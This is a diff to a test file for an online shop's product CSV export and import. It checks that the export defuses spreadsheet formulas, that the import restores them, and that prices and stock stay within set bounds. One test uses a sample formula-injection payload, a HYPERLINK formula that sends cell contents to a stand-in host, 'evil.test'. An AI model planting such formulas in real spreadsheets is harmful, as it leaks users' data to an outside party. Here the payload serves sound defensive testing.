@@ -5,7 +5,7 @@
 // search show it on the next request; files too large or unreadable are refused whole.
 import { env } from "cloudflare:workers";
 import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
-import { eq, inArray } from "drizzle-orm";
+import { and, eq, inArray } from "drizzle-orm";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { ProductCsvReport } from "../../core/contracts/admin/product-csv.ts";
 import { products, productTitles, productTranslations, productVariants } from "../../db/schema/index.ts";
@@ -99,6 +99,34 @@ describe("products CSV: export", () => {
       before.map(({ product, texts }) => ({ ...product, updatedAt: 0, texts })),
     );
   });
+
+  it("guards every line of a text against formulas and quotes semicolons; the import takes the guard back", async () => {
+    const product = await createProduct(db);
+    const description = 'Soft cotton.\n=HYPERLINK("https://evil.test/?"&A1,"Click")';
+    await db
+      .update(productTranslations)
+      .set({ description })
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
+    await db
+      .update(productTranslations)
+      .set({ title: "منشفة; =1+1" })
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "ar")));
+    const text = await (await exportCsv()).text();
+    // Records end in CRLF; the line break inside the description is the LF it was written with
+    const [header = "", ...rows] = text.replace(/^\uFEFF/, "").split("\r\n");
+    const row = rows.find((line) => line.startsWith(`${product.sku},`)) ?? "";
+    expect(row).toContain(`,"منشفة; =1+1",`);
+    expect(row).toContain(`,"Soft cotton.\n'=HYPERLINK(""https://evil.test/?""&A1,""Click"")",`);
+    const before = await stored(product.id);
+    const { status, answer } = await importCsv(`${header}\r\n${row}\r\n`, { dryRun: "false" });
+    expect(status, JSON.stringify(answer)).toBe(200);
+    const [en] = await db
+      .select({ description: productTranslations.description })
+      .from(productTranslations)
+      .where(and(eq(productTranslations.productId, product.id), eq(productTranslations.locale, "en")));
+    expect(en?.description).toBe(description);
+    expect((await stored(product.id)).texts).toEqual(before.texts);
+  });
 });
 
 describe("products CSV: the dry run lists each row's problems and writes nothing", () => {
@@ -137,6 +165,19 @@ describe("products CSV: the dry run lists each row's problems and writes nothing
       "Leave this column empty on a variant's row",
     ],
     ["a row repeated", (_sku: string, good: string) => `${good},,,2.00,,`, "sku", "Line 2 already has this row"],
+    // Decision 0074: the bounds that keep every total exact, as the products API's
+    [
+      "a variant's price above 1,000,000.00",
+      (sku: string) => `${sku},${sku}-1-1,,1000000.01,,`,
+      "price",
+      "Enter an amount of at most 1,000,000.00",
+    ],
+    [
+      "a variant's stock above 1,000,000,000",
+      (sku: string) => `${sku},${sku}-1-1,,,1000000001,`,
+      "quantity",
+      "Enter a stock of at most 1,000,000,000",
+    ],
   ])("%s", async (_, bad, column, message) => {
     const product = await createVariantProduct(db, {
       sizes: [{ en: "S", ar: "ص" }],
@@ -154,6 +195,36 @@ describe("products CSV: the dry run lists each row's problems and writes nothing
       expect(answer.data.problems).toEqual([{ line: 3, column, message }]);
     }
     expect([await stored(product.id), await stored(good.id)]).toEqual(before);
+  });
+
+  it.each([
+    ["price", "1000000.01", "Enter an amount of at most 1,000,000.00"],
+    ["discount_price", "1000000.01", "Enter an amount of at most 1,000,000.00"],
+    ["quantity", "1000000001", "Enter a stock of at most 1,000,000,000"],
+    ["min_order_quantity", "50001", "Enter a whole number of at most 50,000"],
+    ["pack_size", "50001", "Enter a whole number of at most 50,000"],
+  ])("refuses a product's %s one step above its bound (decision 0074)", async (column, value, message) => {
+    const product = await createProduct(db, { price: 100_000_000 });
+    const { status, answer } = await importCsv(csvOf(`sku,${column}`, `${product.sku},${value}`));
+    expect(status).toBe(200);
+    expect(answer.data.problems).toEqual([{ line: 2, column, message }]);
+  });
+
+  it("takes a product at every bound and stores it exactly", async () => {
+    const product = await createProduct(db, { minOrderQuantity: 1, packSize: 1 });
+    const csv = csvOf(
+      "sku,price,discount_price,quantity,min_order_quantity,pack_size",
+      `${product.sku},1000000.00,1000000.00,1000000000,50000,50000`,
+    );
+    const { status, answer } = await importCsv(csv, { dryRun: "false" });
+    expect(status, JSON.stringify(answer)).toBe(200);
+    expect((await stored(product.id)).product).toMatchObject({
+      price: 100_000_000,
+      discountPrice: 100_000_000,
+      quantity: 1_000_000_000,
+      minOrderQuantity: 50_000,
+      packSize: 50_000,
+    });
   });
 
   it("leaves the storefront's cache as it was; the import that writes renews it", async () => {
